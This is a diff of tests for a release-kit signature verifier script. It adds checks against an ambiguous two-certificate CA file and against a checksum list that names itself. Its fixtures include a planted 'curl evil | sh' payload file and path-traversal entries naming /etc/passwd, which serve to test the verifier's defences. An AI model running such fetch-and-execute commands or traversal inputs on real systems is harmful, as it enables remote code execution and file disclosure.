@@ -360,6 +360,13 @@ describe('enclave release key and sign, verify-release.sh (SoftHSM2, openssl CA,
       'ok    certificate: codeSigning, chains to the release CA (revocation not checked)\n',
     );
 
+    // The site's CA file must be the one certificate whose fingerprint is shown: all of it would be trusted.
+    const twoCas = join(work, 'two-cas.pem');
+    writeFileSync(twoCas, Buffer.concat([readFileSync(root.certificate), readFileSync(intermediate.certificate)]));
+    const ambiguous = verify(['--kit', kit, '--ca', twoCas]);
+    expect(ambiguous.code).toBe(1);
+    expect(failures(ambiguous.stdout)[0]).toBe('FAIL  release CA: two-cas.pem: must hold exactly one certificate');
+
     const extra = copyKit('extra');
     writeFileSync(join(extra, 'app', 'payload.sh'), 'curl evil | sh\n');
     expect(failures(verify(['--kit', extra, '--ca', root.certificate]).stdout)).toEqual([
@@ -379,6 +386,7 @@ describe('enclave release key and sign, verify-release.sh (SoftHSM2, openssl CA,
       [`${'0'.repeat(64)}  ../etc/passwd`, 'line 1 names an unsafe path'],
       [`${'0'.repeat(64)}  /etc/passwd`, 'line 1 is not "<sha256 hex>  <relative path>"'],
       [`${'0'.repeat(64)}  app/a b`, 'line 1 is not "<sha256 hex>  <relative path>"'],
+      [`${'0'.repeat(64)}  SHA256SUMS.cms`, 'line 1 lists SHA256SUMS.cms, which cannot list itself'],
     ]) {
       const copy = copyKit('unsafe');
       writeFileSync(join(copy, 'SHA256SUMS'), `${line}\n${readFileSync(join(copy, 'SHA256SUMS'), 'utf8')}`);
